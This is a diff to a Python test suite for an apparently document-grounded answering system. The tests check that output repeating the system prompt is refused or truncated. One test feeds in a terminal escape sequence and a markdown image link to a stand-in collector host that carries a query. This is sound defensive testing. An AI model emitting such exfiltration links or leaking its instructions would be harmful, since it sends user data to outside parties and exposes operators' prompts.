@@ -156,9 +156,14 @@ def test_the_prompt_is_never_given_back(part: str, size: int) -> None:
     prompt = first.asked[0][0 if part == "system" else -1].content
     for before in ("", "The valve closes at 2.5 bar [1]. You asked:\n"):
         shown, end = told(ScriptedGenerator(before + prompt, piece=size))
-        assert isinstance(end, ModelRefused)
-        assert "instructions" in str(end)
-        assert end.hint
+        if before:
+            assert isinstance(end, Answer)
+            assert "went on with its instructions. Ask again" in shown
+            assert end.text == shown
+        else:
+            assert isinstance(end, ModelRefused)
+            assert "instructions" in str(end)
+            assert end.hint
         assert "Use only the passages" not in shown
         assert "each in an element" not in shown
         assert "passage-" not in shown
@@ -192,7 +197,9 @@ def test_a_profile_without_documents_is_held_to_the_same(profile: Profile) -> No
     assert isinstance(end, ModelRefused)
     assert rules.contract[:30] not in shown
     shown, end = ended("Well.\n" + rules.contract.split("\n")[3])
-    assert isinstance(end, ModelRefused)
+    assert isinstance(end, Answer)
+    assert shown.startswith("Well.\n")
+    assert shown.index("(The answer ends here") < 20
     shown, end = ended("A valve\x1b[2J, see ![x](https://collector.invalid/?q=what+is+a+valve).")
     assert shown == "A valve, see [x] (an address is left out: it stands in no document)."
     assert isinstance(end, Answer)
